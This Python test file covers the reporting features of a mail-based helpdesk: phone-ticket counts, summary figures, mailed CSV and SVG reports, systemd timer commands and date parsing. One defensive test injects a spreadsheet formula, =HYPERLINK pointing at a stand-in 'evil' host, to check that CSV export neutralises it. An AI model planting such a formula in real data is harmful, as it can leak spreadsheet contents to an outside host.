"""Reports on seeded data with known answers, human dates, the mailed report and the
commands the systemd timers run."""
from __future__ import annotations

import json
import shlex
from datetime import UTC, date, datetime

import pytest
from click.testing import CliRunner
from sqlalchemy import insert, select, text

from maild.acting import migrate
from maild.acting.models import Entry, Person, Ticket, TicketChange
from maild.admin.cli import main
from maild.reports import dates

from conftest import PROJECT, TRUSTED_DKIM, mail


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


def cli(h, *args, config=None):
    base = ["--data-dir", str(h.app.config.data_dir), "--db", h.app.config.db_url]
    if config is not None:
        base = ["--config", str(config)] + base
    return CliRunner().invoke(main, [*args, *base], catch_exceptions=False)


def set_created(h, number: str, when: datetime) -> None:
    with h.app.engine_begin() as conn:
        conn.execute(text("UPDATE tickets SET created_at = :w, updated_at = :w WHERE number = :n"),
                     {"w": when.replace(tzinfo=None) if h.app.config.db_url.startswith("sqlite") else when,
                      "n": number})


# -- phone ------------------------------------------------------------------------------------
def file_by_phone(h, staff: str, employee: str, subject: str, rcpt="osticket@torex.ru"):
    address = staff.split("<")[-1].rstrip(">")
    h.send(mail(subject=subject, sender=staff, body=f"#новая {employee}\nЗвонок: {subject}",
                headers=TRUSTED_DKIM), rcpt=rcpt, sender=address)
    assert h.drain().outcomes[-1].disposition == "command-applied"


@pytest.fixture
def phoned(maild):
    """Olga: 2 phone tickets in November (+1 in October); Ivan: 1 in OSA and 1 in DAB in
    November, and an e-mail ticket that does not count."""
    petrov, kuznetsov = "Пётр Петров <p.petrov@torex.ru>", "Сергей Кузнецов <s.kuznetsov@torex.ru>"
    maild.send(mail(subject="профиль", body="#профиль\nКабинет: 305\nКомпания: ТОРЭКС-Сервис",
                    sender="Ольга Белова <o.belova@torex.ru>", headers=TRUSTED_DKIM), sender="o.belova@torex.ru")
    maild.drain()
    file_by_phone(maild, petrov, "Ольга Белова <o.belova@torex.ru>", "мышь")          # OSA-000001
    file_by_phone(maild, petrov, "Иван Иванов <ivan@torex.ru>", "принтер")            # OSA-000002
    file_by_phone(maild, petrov, "o.belova@torex.ru", "монитор")                      # OSA-000003
    file_by_phone(maild, petrov, "o.belova@torex.ru", "клавиатура")                   # OSA-000004
    file_by_phone(maild, kuznetsov, "ivan@torex.ru", "1С", rcpt="osticket-1c@torex.ru")   # DAB-000001
    maild.send(mail(subject="Не печатает", body="Принтер не печатает."))               # OSA-000005
    maild.drain()
    for number, when in [("OSA-000001", utc(2026, 11, 3, 9)), ("OSA-000002", utc(2026, 11, 5, 9)),
                         ("OSA-000003", utc(2026, 11, 10, 9)), ("OSA-000004", utc(2026, 10, 28, 9)),
                         ("DAB-000001", utc(2026, 11, 7, 9)), ("OSA-000005", utc(2026, 11, 12, 9))]:
        set_created(maild, number, when)
    return maild


def test_phone_tickets_counted_per_employee(phoned):
    result = cli(phoned, "report", "phone", "--since", "01.11.2026", "--until", "30.11.2026", "--format", "json")
    assert result.exit_code == 0, result.output
    got = json.loads(result.output)
    assert [(r["email"], r["count"], [t["number"] for t in r["tickets"]]) for r in got] == [
        ("ivan@torex.ru", 2, ["OSA-000002", "DAB-000001"]),
        ("o.belova@torex.ru", 2, ["OSA-000001", "OSA-000003"])]
    assert (got[1]["name"], got[1]["company"], got[1]["office"]) == ("Ольга Белова", "ТОРЭКС-Сервис", "305")
    assert got[1]["tickets"][0]["opened"].startswith("2026-11-03")


def test_phone_report_by_department_and_as_csv_and_table(phoned):
    got = json.loads(cli(phoned, "report", "phone", "--since", "2026-11-01", "--until", "2026-11-30",
                         "--dept", "OSA", "--format", "json").output)
    assert [(r["email"], r["count"]) for r in got] == [("o.belova@torex.ru", 2), ("ivan@torex.ru", 1)]
    csv_out = cli(phoned, "report", "phone", "--since", "2026-10-01", "--until", "2026-10-31",
                  "--format", "csv").output
    assert csv_out.splitlines() == ["name,email,company,office,count,tickets",
                                    "Ольга Белова,o.belova@torex.ru,ТОРЭКС-Сервис,305,1,OSA-000004@2026-10-28"]
    table = cli(phoned, "report", "phone", "--since", "01.11.2026", "--until", "30.11.2026").output
    assert "OSA-000001 (03.11.2026), OSA-000003 (10.11.2026)" in table


def test_phone_report_mailed_with_csv_attached(phoned):
    phoned.sink.messages.clear()
    result = cli(phoned, "report", "phone", "--since", "01.11.2026", "--until", "30.11.2026",
                 "--mail-to", "hr@torex.ru")
    assert result.exit_code == 0 and "queued for hr@torex.ru" in result.output
    phoned.drain()
    [sent] = phoned.sent_to("hr@torex.ru")
    msg = sent.msg
    assert "Заявки по телефону за 01.11.2026–30.11.2026" in str(msg["Subject"])
    assert "Ольга Белова" in msg.get_body(("plain",)).get_content()
    [csv_part] = [p for p in msg.iter_attachments() if p.get_filename().endswith(".csv")]
    content = csv_part.get_payload(decode=True).decode("utf-8-sig")
    assert content.splitlines()[1].startswith("Иван Иванов,ivan@torex.ru,,,2,OSA-000002@2026-11-05")


def test_the_monthly_timer_command_mails_hr(phoned, tmp_path):
    """The command maild-report-phone.service runs, as it stands in the unit file."""
    unit = (PROJECT / "systemd" / "maild-report-phone.service").read_text()
    line = next(x for x in unit.splitlines() if x.startswith("ExecStart="))
    args = shlex.split(line.split("=", 1)[1])[1:]          # after the maild binary
    config = tmp_path / "maild.toml"
    config.write_text('[reports]\nphone_to = "hr@torex.ru"\n', encoding="utf-8")
    result = cli(phoned, *args, config=config)
    assert result.exit_code == 0, result.output
    phoned.drain()
    assert len(phoned.sent_to("hr@torex.ru")) == 1
    config.write_text("", encoding="utf-8")
    result = cli(phoned, *args, config=config)
    assert result.exit_code == 78 and "reports.phone_to" in result.output


def test_the_digest_timer_command(maild):
    unit = (PROJECT / "systemd" / "maild-digest.service").read_text()
    line = next(x for x in unit.splitlines() if x.startswith("ExecStart="))
    maild.send(mail())
    maild.drain()
    maild.sink.messages.clear()
    result = cli(maild, *shlex.split(line.split("=", 1)[1])[1:])
    assert result.exit_code == 0 and "queued 2 digest" in result.output
    maild.drain()
    [digest] = maild.sent_to("a.sidorova@torex.ru")
    assert "Сводка ОСА" in digest.subject and "OSA-000001" in digest.body


# -- summary ----------------------------------------------------------------------------------
@pytest.fixture
def seeded(maild):
    """Tickets with known times (see the expected figures in the test)."""
    with maild.app.engine_begin() as conn:
        pid = conn.execute(insert(Person).values(email="ivan@torex.ru", name="Иван", created_at=utc(2026, 1, 1),
                                                 updated_at=utc(2026, 1, 1)).returning(Person.id)).scalar_one()
        staff = conn.execute(insert(Person).values(email="p.petrov@torex.ru", name="Петров",
                                                   created_at=utc(2026, 1, 1), updated_at=utc(2026, 1, 1))
                             .returning(Person.id)).scalar_one()

        def ticket(number, dept, category, created, status="open", closed=None, resolution=None,
                   responded=None, transferred=None):
            tid = conn.execute(insert(Ticket).values(
                number=number, department=dept, subject=number, status=status, priority="normal",
                requester_id=pid, category=category, source="email", created_at=created, updated_at=created,
                closed_at=closed, resolution=resolution, transferred_from=transferred,
            ).returning(Ticket.id)).scalar_one()
            conn.execute(insert(Entry).values(ticket_id=tid, type="message", author_id=pid, created_at=created,
                                              body="x", full_body="x"))
            if responded:
                conn.execute(insert(Entry).values(ticket_id=tid, type="response", author_id=staff,
                                                  created_at=responded, body="y", full_body="y"))

        ticket("OSA-000001", "OSA", "Принтер", utc(2026, 11, 2, 10), "closed", utc(2026, 11, 3, 10), "resolved",
               responded=utc(2026, 11, 2, 12))
        ticket("OSA-000002", "OSA", "Принтер", utc(2026, 11, 4, 10), "closed", utc(2026, 11, 6, 10), "resolved",
               responded=utc(2026, 11, 4, 14))
        ticket("OSA-000003", "OSA", "Принтер", utc(2026, 11, 5, 10), "answered", responded=utc(2026, 11, 5, 16))
        ticket("OSA-000004", "OSA", None, utc(2026, 11, 6, 10), "closed", utc(2026, 11, 6, 10), "uncategorised")
        ticket("DAB-000001", "DAB", "Ошибка 1С", utc(2026, 11, 7, 10), transferred="OSA")
        ticket("OSA-000005", "OSA", "Принтер", utc(2026, 10, 20, 10), "closed", utc(2026, 11, 1, 10), "resolved")
        ticket("OSA-000006", "OSA", "Принтер", utc(2026, 12, 2, 10))          # after the period
        ticket("OSA-000007", "OSA", "Сеть", utc(2026, 9, 1, 10))              # open since September
        conn.execute(insert(TicketChange).values(ticket_id=select(Ticket.id).where(Ticket.number == "DAB-000001")
                                                 .scalar_subquery(), at=utc(2026, 11, 7, 10), field="department",
                                                 old="OSA", new="DAB", department="DAB"))
        # History for tickets made without it, as the upgrade to revision 0009 gives them.
        migrate.revision("0009").module.backfill(conn)
    return maild


def test_summary_figures(seeded):
    result = cli(seeded, "report", "summary", "--since", "2026-11", "--until", "2026-11", "--format", "json")
    assert result.exit_code == 0, result.output
    got = json.loads(result.output)
    rows = {(r["department"], r["category"]): r for r in got["rows"]}
    assert set(rows) == {("OSA", "Принтер"), ("OSA", "—"), ("DAB", "Ошибка 1С"), ("OSA", "Ошибка 1С")}
    printer = rows[("OSA", "Принтер")]
    assert (printer["opened"], printer["closed"], printer["closed_unprocessed"], printer["transferred"]) == (3, 3, 0, 0)
    assert printer["median_first_response_hours"] == 4.0          # 2, 4, 6 hours
    assert printer["median_close_hours"] == 48.0                  # 24, 48, 288 hours
    none = rows[("OSA", "—")]
    assert (none["opened"], none["closed"], none["closed_unprocessed"], none["median_close_hours"]) == (1, 1, 1, None)
    dab = rows[("DAB", "Ошибка 1С")]
    assert (dab["opened"], dab["closed"], dab["transferred_in"], dab["median_first_response_hours"]) == (1, 0, 1, None)
    assert (rows[("OSA", "Ошибка 1С")]["transferred"], rows[("OSA", "Ошибка 1С")]["opened"]) == (1, 0)
    # Open at 1 December: OSA-000003 (26 days), OSA-000007 (91 days), DAB-000001 (24 days).
    assert got["backlog"]["OSA"] == {"< 1 дня": 0, "1–3 дня": 0, "3–7 дней": 0, "7–30 дней": 1, "> 30 дней": 1}
    assert got["backlog"]["DAB"]["7–30 дней"] == 1
    table = cli(seeded, "report", "summary", "--since", "01.11.2026", "--until", "30.11.2026").output
    assert "Принтер" in table and "open backlog" in table


def test_summary_mailed_with_csv_and_chart(seeded):
    result = cli(seeded, "report", "summary", "--since", "2026-11", "--until", "2026-11", "--dept", "OSA",
                 "--mail-to", "boss@torex.ru")
    assert result.exit_code == 0, result.output
    seeded.drain()
    [sent] = seeded.sent_to("boss@torex.ru")
    names = sorted(p.get_filename() for p in sent.msg.iter_attachments())
    assert names == ["summary-2026-11-01-2026-12-01.csv", "summary-2026-11-01-2026-12-01.svg"]
    [svg] = [p for p in sent.msg.iter_attachments() if p.get_content_type() == "image/svg+xml"]
    chart = svg.get_payload(decode=True).decode("utf-8")
    assert chart.startswith("<svg") and "OSA Принтер" in chart and "DAB" not in chart
    import xml.dom.minidom
    xml.dom.minidom.parseString(chart.encode("utf-8"))            # well-formed


def test_bad_dates_and_departments_are_clear(maild):
    result = cli(maild, "report", "phone", "--since", "позавчера")
    assert result.exit_code == 2 and "cannot read the date" in result.output
    result = cli(maild, "report", "summary", "--since", "2026-11-10", "--until", "2026-11-01")
    assert result.exit_code == 2 and "ends before" in result.output
    result = cli(maild, "report", "summary", "--dept", "HR")
    assert result.exit_code == 1 and "no department 'HR'" in result.output


# -- dates ------------------------------------------------------------------------------------
@pytest.mark.parametrize("typed,expected", [
    ("2026-11-01", (date(2026, 11, 1), date(2026, 11, 2))),
    ("01.11.2026", (date(2026, 11, 1), date(2026, 11, 2))),
    ("1.11.2026", (date(2026, 11, 1), date(2026, 11, 2))),
    ("2026-11", (date(2026, 11, 1), date(2026, 12, 1))),
    ("11.2026", (date(2026, 11, 1), date(2026, 12, 1))),
    ("last month", (date(2026, 10, 1), date(2026, 11, 1))),
    ("Прошлый месяц", (date(2026, 10, 1), date(2026, 11, 1))),
    ("this week", (date(2026, 11, 23), date(2026, 11, 30))),
    ("last week", (date(2026, 11, 16), date(2026, 11, 23))),
    ("вчера", (date(2026, 11, 26), date(2026, 11, 27))),
    ("this year", (date(2026, 1, 1), date(2027, 1, 1))),
])
def test_dates_as_people_type_them(typed, expected):
    assert dates.period(typed, date(2026, 11, 27)) == expected       # a Friday


def test_a_january_last_month_is_december():
    assert dates.period("last month", date(2027, 1, 15)) == (date(2026, 12, 1), date(2027, 1, 1))


@pytest.mark.parametrize("typed,expected", [
    ("2026", (date(2026, 1, 1), date(2027, 1, 1))),
    ("Nov 2026", (date(2026, 11, 1), date(2026, 12, 1))),
    ("ноябрь 2026", (date(2026, 11, 1), date(2026, 12, 1))),
    ("1 ноября 2026", (date(2026, 11, 1), date(2026, 11, 2))),
    ("2026/11", (date(2026, 11, 1), date(2026, 12, 1))),
    ("11/2026", (date(2026, 11, 1), date(2026, 12, 1))),
    ("2026.11.01", (date(2026, 11, 1), date(2026, 11, 2))),
    ("2026-11-01 23:00", (date(2026, 11, 1), date(2026, 11, 2))),
    ("1 Nov 2026", (date(2026, 11, 1), date(2026, 11, 2))),
    ("20261101", (date(2026, 11, 1), date(2026, 11, 2))),
])
def test_dates_that_dateutil_alone_would_misread(typed, expected):
    assert dates.period(typed, date(2027, 3, 31)) == expected


@pytest.mark.parametrize("typed", ["nov", "monday", "5", "-1", "29.02.2025", "позавчера", "2026-13", "26.11.26"])
def test_dates_with_a_part_to_guess_are_refused(typed):
    with pytest.raises(dates.DateError, match="cannot read the date"):
        dates.period(typed, date(2026, 11, 27))


def test_csv_cells_never_run_as_formulas(phoned):
    phoned.send(mail(subject="профиль", body='#профиль\nКомпания: =HYPERLINK("http://evil/?"&A1,"click")',
                     sender="Ольга Белова <o.belova@torex.ru>", headers=TRUSTED_DKIM), sender="o.belova@torex.ru")
    phoned.drain()
    out = cli(phoned, "report", "phone", "--since", "2026-11", "--until", "2026-11", "--format", "csv").output
    assert "'=HYPERLINK" in out and ',=HYPERLINK' not in out


def test_digest_overdue_is_waiting_for_us_and_robots_do_not_reset_it(maild):
    from maild.reports import digest as digest_mod
    for n in range(2):
        maild.send(mail(subject=f"Заявка {n}", message_id=f"d{n}@torex.ru"))
    maild.drain()
    for number in ("OSA-000001", "OSA-000002"):
        set_created(maild, number, utc(2026, 11, 20, 9))
    # A robot answers on OSA-000001; OSA-000002 was answered by staff before (waits for the employee).
    maild.send(mail(subject="Автоматический ответ: [#OSA-000001] Заявка 0",
                    headers={"Auto-Submitted": "auto-replied"}))
    maild.drain()
    with maild.app.engine_begin() as conn:
        conn.execute(text("UPDATE tickets SET status = 'answered' WHERE number = 'OSA-000002'"))
        lines = {line.row.number: line.overdue
                 for line in digest_mod.lines(conn, "OSA", utc(2026, 11, 27, 9), overdue_days=2)}
    assert lines == {"OSA-000001": True, "OSA-000002": False}


def test_report_on_a_database_older_than_the_code_says_run_db_init(maild):
    with maild.app.engine_begin() as conn:
        conn.execute(text("ALTER TABLE people DROP COLUMN office"))
    result = cli(maild, "report", "phone")
    assert result.exit_code == 78 and "maild db init" in result.output


def test_notification_tables_must_name_departments_of_the_rules(tmp_path):
    from maild import config as config_mod
    from maild.app import App
    path = tmp_path / "maild.toml"
    path.write_text(f'data_dir = "{tmp_path / "d"}"\n[notifications.OAS]\nack = false\n', encoding="utf-8")
    with pytest.raises(config_mod.ConfigError, match=r"\[notifications.OAS\]: the rules have no department OAS"):
        App.create(config_mod.load(path))
    path.write_text('[reports]\nphone_to = "hr at torex"\n', encoding="utf-8")
    with pytest.raises(config_mod.ConfigError, match="reports.phone_to"):
        config_mod.load(path)


def test_a_past_period_reads_the_same_after_a_reopen_and_a_transfer(maild):
    """Closed yesterday, reopened and transferred today: yesterday's report still shows
    the closing, in OSA."""
    from maild.acting.models import now
    petrov = "Пётр Петров <p.petrov@torex.ru>"
    maild.send(mail(subject="Не печатает принтер", body="Принтер не печатает."))
    maild.drain()
    maild.send(mail(subject="Re: [#OSA-000001] x", sender=petrov, body="#закрыть", headers=TRUSTED_DKIM),
               sender="p.petrov@torex.ru")
    maild.drain()
    today = now().date()

    def figures():
        got = json.loads(cli(maild, "report", "summary", "--since", "today", "--until", "today",
                             "--format", "json").output)
        return {(r["department"], r["category"]): (r["opened"], r["closed"], r["transferred"], r["transferred_in"])
                for r in got["rows"]}, got["backlog"]
    before, backlog = figures()
    assert before == {("OSA", "Принтер"): (1, 1, 0, 0)} and backlog == {}
    maild.send(mail(subject="Re: [#OSA-000001] x", body="Снова не печатает."))
    maild.drain()
    maild.send(mail(subject="Re: [#OSA-000001] x", sender=petrov, body="#передать ДАБ", headers=TRUSTED_DKIM),
               sender="p.petrov@torex.ru")
    maild.drain()
    after, backlog = figures()
    assert after == {("OSA", "Принтер"): (1, 1, 1, 0), ("DAB", "Принтер"): (0, 0, 0, 1)}
    assert sum(backlog["DAB"].values()) == 1 and "OSA" not in backlog
    # The same day, asked as a past period (until the moment before the reopening), reads as before.
    with maild.app.engine_begin() as conn:
        reopened = conn.execute(text("SELECT at FROM ticket_changes WHERE field = 'status' AND new = 'open'")).scalar()
    from maild.reports import report as reports
    with maild.app.engine_begin() as conn:
        at = reopened if isinstance(reopened, datetime) else datetime.fromisoformat(str(reopened))
        at = at.replace(tzinfo=UTC) if at.tzinfo is None else at
        past = reports.summary(conn, datetime.combine(today, datetime.min.time(), UTC), at)
    assert [(r.department, r.closed, r.transferred) for r in past.rows] == [("OSA", 1, 0)]
    assert past.backlog == {}
